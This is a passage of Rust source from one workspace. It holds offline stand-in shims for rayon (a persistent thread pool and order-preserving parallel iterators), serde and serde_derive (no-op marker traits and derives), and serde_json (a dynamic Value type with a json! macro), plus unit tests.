        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..64 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = StdRng::seed_from_u64(43);
        assert_ne!(StdRng::seed_from_u64(42).next_u64(), c.next_u64());
    }

    #[test]
    fn unit_interval() {
        let mut r = StdRng::seed_from_u64(7);
        for _ in 0..10_000 {
            let x: f64 = r.random();
            assert!((0.0..1.0).contains(&x));
        }
    }

    #[test]
    fn range_bounds_and_coverage() {
        let mut r = StdRng::seed_from_u64(9);
        let mut seen = [false; 10];
        for _ in 0..1_000 {
            seen[r.random_range(0usize..10)] = true;
        }
        assert!(seen.iter().all(|&s| s));
        for _ in 0..1_000 {
            let v = r.random_range(5u64..7);
            assert!((5..7).contains(&v));
        }
        let v = r.random_range(3u8..=3);
        assert_eq!(v, 3);
        // Full-domain inclusive range must not panic.
        let _ = r.random_range(0u64..=u64::MAX);
    }

    #[test]
    fn bool_bias() {
        let mut r = StdRng::seed_from_u64(11);
        let hits = (0..100_000).filter(|_| r.random_bool(0.25)).count();
        let frac = hits as f64 / 100_000.0;
        assert!((frac - 0.25).abs() < 0.01, "frac {frac}");
    }
}
