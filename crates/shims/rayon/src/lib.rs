//! Offline stand-in for `rayon`, implementing the subset of the API the
//! workspace uses with real `std::thread` data parallelism.
//!
//! A parallel iterator here is a materialized item vector plus a
//! sink-style composed operation. Adapters (`map`, `filter`,
//! `flat_map_iter`) compose the operation; consumers (`collect`,
//! `count`, `sum`, `for_each`, `reduce`) split the items into one chunk
//! per available core, run the composed pipeline on a persistent worker
//! pool, and splice per-chunk outputs back together in order — so observable
//! behavior (ordering included) matches rayon's indexed iterators for
//! every call site in this workspace.
//!
//! Also provided: [`join`] and [`current_num_threads`].

use std::num::NonZeroUsize;

pub mod prelude {
    pub use crate::{
        FromParallelIterator, IntoParallelIterator, IntoParallelRefIterator, ParallelIterator,
    };
}

/// Number of worker threads used for parallel drives. Cached:
/// `available_parallelism` inspects cgroup files on every call, which is
/// far too slow for the per-iteration checks hot loops make.
pub fn current_num_threads() -> usize {
    static N: std::sync::OnceLock<usize> = std::sync::OnceLock::new();
    *N.get_or_init(|| {
        std::thread::available_parallelism()
            .map(NonZeroUsize::get)
            .unwrap_or(1)
    })
}

/// A persistent worker pool, so `join`/`drive` dispatch costs a queue
/// push instead of an OS thread spawn (the real rayon's reason to
/// exist; a per-call `thread::scope` makes fine-grained parallel BP
/// sweeps slower than serial ones).
///
/// Lifetime model: jobs capture borrowed state, erased to `'static` at
/// the dispatch boundary. This is sound because every dispatch point
/// **blocks until its jobs complete before returning** — including when
/// the inline half panics — so borrowed data strictly outlives the
/// worker's use of it. Nested parallelism from inside a worker runs
/// serially (a worker blocking on sub-jobs could deadlock the pool).
mod pool {
    use std::cell::Cell;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::{Arc, Condvar, Mutex, OnceLock};

    type Job = Box<dyn FnOnce() + Send>;

    struct Shared {
        queue: Mutex<std::collections::VecDeque<Job>>,
        jobs_cv: Condvar,
    }

    static POOL: OnceLock<&'static Shared> = OnceLock::new();

    thread_local! {
        static IS_WORKER: Cell<bool> = const { Cell::new(false) };
    }

    /// Whether the current thread is a pool worker. Waiters *help* run
    /// queued jobs, so nested dispatch is allowed everywhere; this only
    /// gates heuristics (a worker saturating the pool gains nothing from
    /// splitting small work further).
    pub fn on_worker() -> bool {
        IS_WORKER.with(Cell::get)
    }

    fn shared() -> &'static Shared {
        POOL.get_or_init(|| {
            let shared: &'static Shared = Box::leak(Box::new(Shared {
                queue: Mutex::new(std::collections::VecDeque::new()),
                jobs_cv: Condvar::new(),
            }));
            let workers = super::current_num_threads().saturating_sub(1).max(1);
            for i in 0..workers {
                std::thread::Builder::new()
                    .name(format!("rayon-shim-{i}"))
                    .spawn(move || {
                        IS_WORKER.with(|w| w.set(true));
                        loop {
                            let job = {
                                let mut q = shared.queue.lock().unwrap_or_else(|p| p.into_inner());
                                loop {
                                    if let Some(job) = q.pop_front() {
                                        break job;
                                    }
                                    q = shared.jobs_cv.wait(q).unwrap_or_else(|p| p.into_inner());
                                }
                            };
                            job();
                        }
                    })
                    .expect("spawn rayon-shim worker");
            }
            shared
        })
    }

    fn push(job: Job) {
        let shared = shared();
        {
            let mut q = shared.queue.lock().unwrap_or_else(|p| p.into_inner());
            q.push_back(job);
        }
        shared.jobs_cv.notify_one();
    }

    fn try_pop() -> Option<Job> {
        let mut q = shared().queue.lock().unwrap_or_else(|p| p.into_inner());
        q.pop_front()
    }

    /// Tracks a batch of dispatched jobs; `wait` blocks until all have
    /// finished (normally or by panic).
    pub struct Batch {
        pending: AtomicUsize,
        panicked: AtomicUsize,
        lock: Mutex<()>,
        cv: Condvar,
    }

    impl Batch {
        pub fn new(jobs: usize) -> Arc<Batch> {
            Arc::new(Batch {
                pending: AtomicUsize::new(jobs),
                panicked: AtomicUsize::new(0),
                lock: Mutex::new(()),
                cv: Condvar::new(),
            })
        }

        fn finish(&self, panicked: bool) {
            if panicked {
                self.panicked.fetch_add(1, Ordering::Relaxed);
            }
            if self.pending.fetch_sub(1, Ordering::AcqRel) == 1 {
                let _g = self.lock.lock().unwrap_or_else(|p| p.into_inner());
                self.cv.notify_all();
            }
        }

        /// Block until every job in the batch has completed; panics if
        /// any job panicked (after all completed — never while borrowed
        /// state is still in use).
        ///
        /// Waiters **help**: while the batch is outstanding they execute
        /// whatever is queued (their own jobs or anyone else's), which
        /// makes nested dispatch both deadlock-free and parallel. The
        /// short wait timeout re-checks the queue so a job enqueued
        /// after a miss cannot strand a sleeping helper.
        pub fn wait(&self) {
            while self.pending.load(Ordering::Acquire) > 0 {
                if let Some(job) = super::pool::try_pop() {
                    job();
                    continue;
                }
                let guard = self.lock.lock().unwrap_or_else(|p| p.into_inner());
                if self.pending.load(Ordering::Acquire) == 0 {
                    break;
                }
                let _ = self
                    .cv
                    .wait_timeout(guard, std::time::Duration::from_micros(100))
                    .unwrap_or_else(|p| p.into_inner());
            }
            if self.panicked.load(Ordering::Relaxed) > 0 {
                panic!("rayon-shim pooled job panicked");
            }
        }
    }

    /// Dispatch `job` to the pool, reporting completion to `batch`.
    ///
    /// # Safety
    /// The caller must block on `batch.wait()` before any state borrowed
    /// by `job` goes out of scope — on every path, including unwinding.
    pub unsafe fn dispatch<'env>(batch: &Arc<Batch>, job: Box<dyn FnOnce() + Send + 'env>) {
        let batch = Arc::clone(batch);
        let wrapped: Box<dyn FnOnce() + Send + 'env> = Box::new(move || {
            let caught = std::panic::catch_unwind(std::panic::AssertUnwindSafe(job)).is_err();
            batch.finish(caught);
        });
        // SAFETY: per the contract above, the job finishes (and drops)
        // before its borrows expire; the transmute only erases the
        // lifetime the type system can no longer track across the
        // channel.
        let erased: Job = unsafe {
            std::mem::transmute::<Box<dyn FnOnce() + Send + 'env>, Box<dyn FnOnce() + Send>>(
                wrapped,
            )
        };
        push(erased);
    }
}

/// Run two closures, potentially in parallel, returning both results.
pub fn join<A, B, RA, RB>(a: A, b: B) -> (RA, RB)
where
    A: FnOnce() -> RA + Send,
    B: FnOnce() -> RB + Send,
    RA: Send,
    RB: Send,
{
    if current_num_threads() <= 1 {
        let ra = a();
        let rb = b();
        return (ra, rb);
    }
    let mut rb_slot: Option<RB> = None;
    let batch = pool::Batch::new(1);
    {
        let rb_ref = &mut rb_slot;
        // SAFETY: `batch.wait()` runs below before `rb_slot`/`b` borrows
        // expire, even if `a` panics (the panic is re-raised after the
        // wait).
        unsafe {
            pool::dispatch(&batch, Box::new(move || *rb_ref = Some(b())));
        }
        let ra = std::panic::catch_unwind(std::panic::AssertUnwindSafe(a));
        batch.wait();
        match (ra, rb_slot) {
            (Ok(ra), Some(rb)) => (ra, rb),
            (Err(payload), _) => std::panic::resume_unwind(payload),
            (Ok(_), None) => panic!("rayon-shim join worker panicked"),
        }
    }
}

type Sink<'env, O> = dyn FnMut(O) + 'env;
type Op<'env, T, O> = dyn Fn(T, &mut Sink<'_, O>) + Send + Sync + 'env;

/// A materialized parallel pipeline: base items plus the composed
/// per-item operation feeding a sink.
pub struct ParIter<'env, T: Send, O: Send> {
    items: Vec<T>,
    op: Box<Op<'env, T, O>>,
}

/// Mirror of `rayon::iter::IntoParallelIterator`.
pub trait IntoParallelIterator<'env> {
    type Item: Send;
    fn into_par_iter(self) -> ParIter<'env, Self::Item, Self::Item>;
}

/// Mirror of `rayon::iter::IntoParallelRefIterator` (`.par_iter()`).
pub trait IntoParallelRefIterator<'env> {
    type Item: Send;
    fn par_iter(&'env self) -> ParIter<'env, Self::Item, Self::Item>;
}

fn identity<'env, T: Send>(items: Vec<T>) -> ParIter<'env, T, T> {
    ParIter {
        items,
        op: Box::new(|t, sink| sink(t)),
    }
}

impl<'env, T: Send> IntoParallelIterator<'env> for Vec<T> {
    type Item = T;
    fn into_par_iter(self) -> ParIter<'env, T, T> {
        identity(self)
    }
}

macro_rules! range_into_par {
    ($($t:ty),*) => {$(
        impl<'env> IntoParallelIterator<'env> for std::ops::Range<$t> {
            type Item = $t;
            fn into_par_iter(self) -> ParIter<'env, $t, $t> {
                identity(self.collect())
            }
        }
    )*};
}
range_into_par!(u32, u64, usize, i32, i64);

impl<'env, T: Sync + 'env> IntoParallelRefIterator<'env> for [T] {
    type Item = &'env T;
    fn par_iter(&'env self) -> ParIter<'env, &'env T, &'env T> {
        identity(self.iter().collect())
    }
}

impl<'env, T: Sync + 'env> IntoParallelRefIterator<'env> for Vec<T> {
    type Item = &'env T;
    fn par_iter(&'env self) -> ParIter<'env, &'env T, &'env T> {
        identity(self.iter().collect())
    }
}

/// Mirror of `rayon::iter::FromParallelIterator`, so `.collect()` can
/// target the same types call sites already use.
pub trait FromParallelIterator<O> {
    fn from_par(items: Vec<O>) -> Self;
}

impl<O> FromParallelIterator<O> for Vec<O> {
    fn from_par(items: Vec<O>) -> Self {
        items
    }
}

impl<K, V, S> FromParallelIterator<(K, V)> for std::collections::HashMap<K, V, S>
where
    K: std::hash::Hash + Eq,
    S: std::hash::BuildHasher + Default,
{
    fn from_par(items: Vec<(K, V)>) -> Self {
        items.into_iter().collect()
    }
}

/// The adapter/consumer surface of `rayon::iter::ParallelIterator` used
/// in this workspace, implemented directly on [`ParIter`] (rayon's trait
/// split into `ParallelIterator`/`IndexedParallelIterator` is collapsed).
pub trait ParallelIterator<'env>: Sized {
    type Item: Send;

    fn map<O2, F>(self, f: F) -> ParIter<'env, Self::BaseItem, O2>
    where
        O2: Send,
        F: Fn(Self::Item) -> O2 + Send + Sync + 'env;

    fn filter<F>(self, f: F) -> ParIter<'env, Self::BaseItem, Self::Item>
    where
        F: Fn(&Self::Item) -> bool + Send + Sync + 'env;

    fn flat_map_iter<I, F>(self, f: F) -> ParIter<'env, Self::BaseItem, I::Item>
    where
        I: IntoIterator,
        I::Item: Send,
        F: Fn(Self::Item) -> I + Send + Sync + 'env;

    fn for_each<F>(self, f: F)
    where
        F: Fn(Self::Item) + Send + Sync + 'env;

    fn collect<C: FromParallelIterator<Self::Item>>(self) -> C;

    fn count(self) -> usize;

    fn sum<S>(self) -> S
    where
        S: std::iter::Sum<Self::Item>;

    fn reduce<ID, F>(self, identity: ID, f: F) -> Self::Item
    where
        ID: Fn() -> Self::Item + Send + Sync,
        F: Fn(Self::Item, Self::Item) -> Self::Item + Send + Sync;

    #[doc(hidden)]
    type BaseItem: Send;
}

impl<'env, T: Send + 'env, O: Send + 'env> ParIter<'env, T, O> {
    /// Execute the pipeline: one chunk per core dispatched to the worker
    /// pool (last chunk runs inline), order-preserving splice.
    fn drive(self) -> Vec<O> {
        let ParIter { items, op } = self;
        let n = items.len();
        let threads = current_num_threads().min(n).max(1);
        if threads <= 1 || n < 2 || pool::on_worker() {
            let mut out = Vec::with_capacity(n);
            for t in items {
                op(t, &mut |o| out.push(o));
            }
            return out;
        }
        let chunk = n.div_ceil(threads);
        let mut chunks: Vec<Vec<T>> = Vec::with_capacity(threads);
        let mut items = items.into_iter();
        loop {
            let c: Vec<T> = items.by_ref().take(chunk).collect();
            if c.is_empty() {
                break;
            }
            chunks.push(c);
        }
        let op = &*op;
        let mut outputs: Vec<Vec<O>> = Vec::new();
        outputs.resize_with(chunks.len(), Vec::new);
        let batch = pool::Batch::new(chunks.len() - 1);
        {
            let mut slots = outputs.iter_mut();
            let mut chunks = chunks.into_iter();
            let last_chunk = chunks.next_back().expect("nonempty");
            let last_slot = slots.next_back().expect("nonempty");
            for (c, slot) in chunks.zip(slots) {
                // SAFETY: `batch.wait()` runs below before `outputs`/`op`
                // borrows expire, even if the inline chunk panics.
                unsafe {
                    pool::dispatch(
                        &batch,
                        Box::new(move || {
                            slot.reserve(c.len());
                            for t in c {
                                op(t, &mut |o| slot.push(o));
                            }
                        }),
                    );
                }
            }
            let inline = std::panic::catch_unwind(std::panic::AssertUnwindSafe(move || {
                last_slot.reserve(last_chunk.len());
                for t in last_chunk {
                    op(t, &mut |o| last_slot.push(o));
                }
            }));
            batch.wait();
            if let Err(payload) = inline {
                std::panic::resume_unwind(payload);
            }
        }
        let mut out = Vec::with_capacity(n);
        for chunk_out in outputs {
            out.extend(chunk_out);
        }
        out
    }
}

impl<'env, T: Send + 'env, O: Send + 'env> ParallelIterator<'env> for ParIter<'env, T, O> {
    type Item = O;
    type BaseItem = T;

    fn map<O2, F>(self, f: F) -> ParIter<'env, T, O2>
    where
        O2: Send,
        F: Fn(O) -> O2 + Send + Sync + 'env,
    {
        let ParIter { items, op } = self;
        ParIter {
            items,
            op: Box::new(move |t, sink| op(t, &mut |o| sink(f(o)))),
        }
    }

    fn filter<F>(self, f: F) -> ParIter<'env, T, O>
    where
        F: Fn(&O) -> bool + Send + Sync + 'env,
    {
        let ParIter { items, op } = self;
        ParIter {
            items,
            op: Box::new(move |t, sink| {
                op(t, &mut |o| {
                    if f(&o) {
                        sink(o)
                    }
                })
            }),
        }
    }

    fn flat_map_iter<I, F>(self, f: F) -> ParIter<'env, T, I::Item>
    where
        I: IntoIterator,
        I::Item: Send,
        F: Fn(O) -> I + Send + Sync + 'env,
    {
        let ParIter { items, op } = self;
        ParIter {
            items,
            op: Box::new(move |t, sink| {
                op(t, &mut |o| {
                    for x in f(o) {
                        sink(x)
                    }
                })
            }),
        }
    }

    fn for_each<F>(self, f: F)
    where
        F: Fn(O) + Send + Sync + 'env,
    {
        // Map into unit and drive; per-chunk outputs are unit vectors.
        let _ = self.map(f).drive();
    }

    fn collect<C: FromParallelIterator<O>>(self) -> C {
        C::from_par(self.drive())
    }

    fn count(self) -> usize {
        self.drive().len()
    }

    fn sum<S>(self) -> S
    where
        S: std::iter::Sum<O>,
    {
        self.drive().into_iter().sum()
    }

    fn reduce<ID, F>(self, identity: ID, f: F) -> O
    where
        ID: Fn() -> O + Send + Sync,
        F: Fn(O, O) -> O + Send + Sync,
    {
        self.drive().into_iter().fold(identity(), f)
    }
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn map_collect_preserves_order() {
        let v: Vec<u64> = (0..10_000u64).into_par_iter().map(|x| x * 2).collect();
        assert_eq!(v.len(), 10_000);
        assert!(v.iter().enumerate().all(|(i, &x)| x == i as u64 * 2));
    }

    #[test]
    fn par_iter_borrows() {
        let data: Vec<String> = (0..100).map(|i| format!("s{i}")).collect();
        let lens: Vec<usize> = data.par_iter().map(|s| s.len()).collect();
        assert_eq!(lens.len(), 100);
        assert_eq!(lens[0], 2);
        let n = data.par_iter().filter(|s| s.ends_with('7')).count();
        assert_eq!(n, 10);
    }

    #[test]
    fn flat_map_iter_matches_sequential() {
        let seqs = vec![vec![1u32, 2], vec![3], vec![], vec![4, 5, 6]];
        let par: Vec<u32> = seqs
            .par_iter()
            .flat_map_iter(|s| s.iter().copied())
            .collect();
        assert_eq!(par, vec![1, 2, 3, 4, 5, 6]);
    }

    #[test]
    fn sum_and_reduce() {
        let s: u64 = (0..1000u64).into_par_iter().sum();
        assert_eq!(s, 499_500);
        let m = (0..1000u64).into_par_iter().reduce(|| 0, u64::max);
        assert_eq!(m, 999);
    }

    #[test]
    fn join_runs_both() {
        let (a, b) = super::join(|| 1 + 1, || "x".repeat(3));
        assert_eq!(a, 2);
        assert_eq!(b, "xxx");
    }

    #[test]
    fn for_each_side_effects() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        let hits = AtomicUsize::new(0);
        (0..512usize).into_par_iter().for_each(|_| {
            hits.fetch_add(1, Ordering::Relaxed);
        });
        assert_eq!(hits.load(Ordering::Relaxed), 512);
    }
}
