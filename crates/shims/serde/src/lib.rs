//! Offline stand-in for the `serde` facade.
//!
//! The container this workspace builds in has no access to crates.io, so
//! the real `serde` cannot be vendored. The workspace only *annotates*
//! types as serializable (deriving the traits and occasionally marking
//! fields `#[serde(skip)]`); no code path serializes through the trait
//! machinery — machine-readable artifacts are produced via the dynamic
//! `serde_json::Value` shim instead. The traits here are therefore empty
//! markers with blanket impls, and the derives (re-exported from the
//! `serde_derive` shim) expand to nothing.
//!
//! Swapping the real serde back in is a one-line change per manifest; no
//! source file needs to change.

pub use serde_derive::{Deserialize, Serialize};

/// Marker trait standing in for `serde::Serialize`.
pub trait Serialize {}
impl<T: ?Sized> Serialize for T {}

/// Marker trait standing in for `serde::Deserialize<'de>`.
pub trait Deserialize<'de> {}
impl<'de, T: ?Sized> Deserialize<'de> for T {}

/// Marker trait standing in for `serde::de::DeserializeOwned`.
pub trait DeserializeOwned {}
impl<T: ?Sized> DeserializeOwned for T {}

pub mod de {
    pub use super::DeserializeOwned;
}
