//! No-op derive macros standing in for `serde_derive`.
//!
//! This workspace builds in an offline container, so the real `serde`
//! cannot be fetched. Nothing in the workspace performs real
//! serialization through the `Serialize`/`Deserialize` traits (the only
//! JSON emitted goes through the `serde_json` shim's dynamic `Value`),
//! so the derives only need to (a) parse successfully and (b) accept
//! `#[serde(...)]` helper attributes. They expand to nothing; the trait
//! obligations are satisfied by blanket impls in the `serde` shim.

use proc_macro::TokenStream;

/// Accepts and discards a `#[derive(Serialize)]` request.
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

/// Accepts and discards a `#[derive(Deserialize)]` request.
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}
