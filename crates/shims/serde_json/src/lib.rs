//! Offline stand-in for `serde_json`, covering the subset the workspace
//! uses: the dynamic [`Value`] tree, the [`json!`] constructor macro, and
//! compact/pretty serialization to strings. Object keys preserve
//! insertion order (like serde_json with its `preserve_order` feature),
//! so artifact files diff cleanly across runs.

use std::collections::BTreeMap;
use std::fmt;

/// A JSON number: integers are kept exact so artifacts print `137`, not
/// `137.0`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Number {
    I64(i64),
    U64(u64),
    F64(f64),
}

impl fmt::Display for Number {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Number::I64(v) => write!(f, "{v}"),
            Number::U64(v) => write!(f, "{v}"),
            Number::F64(v) => {
                if v.is_finite() {
                    write!(f, "{v}")
                } else {
                    // JSON has no Inf/NaN; mirror serde_json's `null`.
                    write!(f, "null")
                }
            }
        }
    }
}

/// A dynamically-typed JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    Number(Number),
    String(String),
    Array(Vec<Value>),
    /// Insertion-ordered object.
    Object(Vec<(String, Value)>),
}

impl Value {
    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Number(Number::I64(v)) => Some(*v as f64),
            Value::Number(Number::U64(v)) => Some(*v as f64),
            Value::Number(Number::F64(v)) => Some(*v),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::String(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_array(&self) -> Option<&Vec<Value>> {
        match self {
            Value::Array(a) => Some(a),
            _ => None,
        }
    }

    /// Object field lookup; returns `Null` for non-objects/missing keys.
    pub fn get(&self, key: &str) -> &Value {
        const NULL: Value = Value::Null;
        match self {
            Value::Object(fields) => fields
                .iter()
                .find(|(k, _)| k == key)
                .map(|(_, v)| v)
                .unwrap_or(&NULL),
            _ => &NULL,
        }
    }

    fn write(&self, out: &mut String, indent: Option<usize>, level: usize) {
        match self {
            Value::Null => out.push_str("null"),
            Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            Value::Number(n) => out.push_str(&n.to_string()),
            Value::String(s) => write_escaped(out, s),
            Value::Array(items) => {
                write_seq(out, indent, level, '[', ']', items.len(), |out, i| {
                    items[i].write(out, indent, level + 1)
                })
            }
            Value::Object(fields) => {
                write_seq(out, indent, level, '{', '}', fields.len(), |out, i| {
                    let (k, v) = &fields[i];
                    write_escaped(out, k);
                    out.push(':');
                    if indent.is_some() {
                        out.push(' ');
                    }
                    v.write(out, indent, level + 1)
                })
            }
        }
    }
}

fn write_escaped(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

fn write_seq(
    out: &mut String,
    indent: Option<usize>,
    level: usize,
    open: char,
    close: char,
    len: usize,
    mut item: impl FnMut(&mut String, usize),
) {
    out.push(open);
    if len == 0 {
        out.push(close);
        return;
    }
    for i in 0..len {
        if i > 0 {
            out.push(',');
        }
        if let Some(width) = indent {
            out.push('\n');
            out.push_str(&" ".repeat(width * (level + 1)));
        }
        item(out, i);
    }
    if let Some(width) = indent {
        out.push('\n');
        out.push_str(&" ".repeat(width * level));
    }
    out.push(close);
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut s = String::new();
        self.write(&mut s, None, 0);
        f.write_str(&s)
    }
}

/// Compact serialization.
pub fn to_string(value: &Value) -> Result<String, Error> {
    let mut s = String::new();
    value.write(&mut s, None, 0);
    Ok(s)
}

/// Two-space-indented serialization, matching serde_json's pretty style.
pub fn to_string_pretty(value: &Value) -> Result<String, Error> {
    let mut s = String::new();
    value.write(&mut s, Some(2), 0);
    Ok(s)
}

/// Serialization error (cannot occur for `Value` trees; kept for API
/// compatibility with call sites that `.expect(..)` the result).
#[derive(Debug)]
pub struct Error(String);

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Error {}

// ---- conversions used by json!{} interpolation sites ----

impl From<bool> for Value {
    fn from(v: bool) -> Value {
        Value::Bool(v)
    }
}

impl From<String> for Value {
    fn from(v: String) -> Value {
        Value::String(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Value {
        Value::String(v.to_string())
    }
}

impl From<&String> for Value {
    fn from(v: &String) -> Value {
        Value::String(v.clone())
    }
}

impl From<&&str> for Value {
    fn from(v: &&str) -> Value {
        Value::String((*v).to_string())
    }
}

/// Tuples become two-element arrays (used for `(x, y)` sweep points).
impl<A, B> From<(A, B)> for Value
where
    Value: From<A> + From<B>,
{
    fn from((a, b): (A, B)) -> Value {
        Value::Array(vec![Value::from(a), Value::from(b)])
    }
}

macro_rules! from_signed {
    ($($t:ty),*) => {$(
        impl From<$t> for Value {
            fn from(v: $t) -> Value { Value::Number(Number::I64(v as i64)) }
        }
    )*};
}
macro_rules! from_unsigned {
    ($($t:ty),*) => {$(
        impl From<$t> for Value {
            fn from(v: $t) -> Value { Value::Number(Number::U64(v as u64)) }
        }
    )*};
}
from_signed!(i8, i16, i32, i64, isize);
from_unsigned!(u8, u16, u32, u64, usize);

impl From<f32> for Value {
    fn from(v: f32) -> Value {
        Value::Number(Number::F64(v as f64))
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Value {
        Value::Number(Number::F64(v))
    }
}

impl<T> From<Option<T>> for Value
where
    Value: From<T>,
{
    fn from(v: Option<T>) -> Value {
        match v {
            Some(x) => Value::from(x),
            None => Value::Null,
        }
    }
}

impl<T> From<Vec<T>> for Value
where
    Value: From<T>,
{
    fn from(v: Vec<T>) -> Value {
        Value::Array(v.into_iter().map(Value::from).collect())
    }
}

impl<T: Clone> From<&[T]> for Value
where
    Value: From<T>,
{
    fn from(v: &[T]) -> Value {
        Value::Array(v.iter().cloned().map(Value::from).collect())
    }
}

impl<T: Clone> From<&Vec<T>> for Value
where
    Value: From<T>,
{
    fn from(v: &Vec<T>) -> Value {
        Value::Array(v.iter().cloned().map(Value::from).collect())
    }
}

impl<K: Into<String>, V> From<BTreeMap<K, V>> for Value
where
    Value: From<V>,
{
    fn from(m: BTreeMap<K, V>) -> Value {
        Value::Object(
            m.into_iter()
                .map(|(k, v)| (k.into(), Value::from(v)))
                .collect(),
        )
    }
}

/// Build a [`Value`] with JSON syntax; interpolated expressions go
/// through `Value::from`.
///
/// Values in objects/arrays may be JSON literals (`null`, `true`,
/// nested `{..}`/`[..]`) or arbitrary Rust expressions; literal forms are
/// tried first so a nested `{"a": 1}` is parsed as JSON rather than as a
/// (malformed) block expression.
#[macro_export]
macro_rules! json {
    (null) => { $crate::Value::Null };
    (true) => { $crate::Value::Bool(true) };
    (false) => { $crate::Value::Bool(false) };
    ([ $($tt:tt)* ]) => { $crate::json_array!([] $($tt)*) };
    ({ $($tt:tt)* }) => { $crate::json_object!(() $($tt)*) };
    ($other:expr) => { $crate::Value::from($other) };
}

/// Internal: array accumulator — `[done elems] remaining tokens...`.
#[doc(hidden)]
#[macro_export]
macro_rules! json_array {
    ([ $($done:expr),* ]) => { $crate::Value::Array(vec![ $($done),* ]) };
    // JSON-literal elements, with and without a following comma.
    ([ $($done:expr),* ] null , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::Value::Null ] $($rest)*)
    };
    ([ $($done:expr),* ] null) => {
        $crate::json_array!([ $($done,)* $crate::Value::Null ])
    };
    ([ $($done:expr),* ] { $($inner:tt)* } , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::json_object!(() $($inner)*) ] $($rest)*)
    };
    ([ $($done:expr),* ] { $($inner:tt)* }) => {
        $crate::json_array!([ $($done,)* $crate::json_object!(() $($inner)*) ])
    };
    ([ $($done:expr),* ] [ $($inner:tt)* ] , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::json_array!([] $($inner)*) ] $($rest)*)
    };
    ([ $($done:expr),* ] [ $($inner:tt)* ]) => {
        $crate::json_array!([ $($done,)* $crate::json_array!([] $($inner)*) ])
    };
    // Arbitrary expression elements.
    ([ $($done:expr),* ] $next:expr , $($rest:tt)*) => {
        $crate::json_array!([ $($done,)* $crate::Value::from($next) ] $($rest)*)
    };
    ([ $($done:expr),* ] $next:expr) => {
        $crate::json_array!([ $($done,)* $crate::Value::from($next) ])
    };
}

/// Internal: object accumulator — `(done pairs) remaining tokens...`.
#[doc(hidden)]
#[macro_export]
macro_rules! json_object {
    (( $($done:expr),* )) => { $crate::Value::Object(vec![ $($done),* ]) };
    // JSON-literal values, with and without a following comma.
    (( $($done:expr),* ) $key:literal : null , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::Null) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : null) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::Null) ))
    };
    (( $($done:expr),* ) $key:literal : { $($inner:tt)* } , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_object!(() $($inner)*)) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : { $($inner:tt)* }) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_object!(() $($inner)*)) ))
    };
    (( $($done:expr),* ) $key:literal : [ $($inner:tt)* ] , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_array!([] $($inner)*)) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : [ $($inner:tt)* ]) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::json_array!([] $($inner)*)) ))
    };
    // Arbitrary expression values.
    (( $($done:expr),* ) $key:literal : $val:expr , $($rest:tt)*) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::from($val)) ) $($rest)*)
    };
    (( $($done:expr),* ) $key:literal : $val:expr) => {
        $crate::json_object!(( $($done,)* ($key.to_string(), $crate::Value::from($val)) ))
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literals_and_interpolation() {
        let n = 3usize;
        let v = json!({
            "name": "bp",
            "n": n,
            "pi": 3.5,
            "ok": true,
            "missing": null,
            "opt": Some(7u32),
            "none": Option::<u32>::None,
            "seq": [1, 2, 3],
            "nested": {"a": [true, "x"]},
        });
        assert_eq!(v.get("name").as_str(), Some("bp"));
        assert_eq!(v.get("n").as_f64(), Some(3.0));
        assert_eq!(v.get("opt").as_f64(), Some(7.0));
        assert!(v.get("none").is_null());
        assert_eq!(v.get("seq").as_array().unwrap().len(), 3);
        assert_eq!(v.get("nested").get("a").as_array().unwrap().len(), 2);
    }

    #[test]
    fn pretty_roundtrips_integers_exactly() {
        let v = json!({"hits": 137u64, "neg": -3i64});
        let s = to_string_pretty(&v).unwrap();
        assert!(s.contains("\"hits\": 137"), "{s}");
        assert!(s.contains("\"neg\": -3"), "{s}");
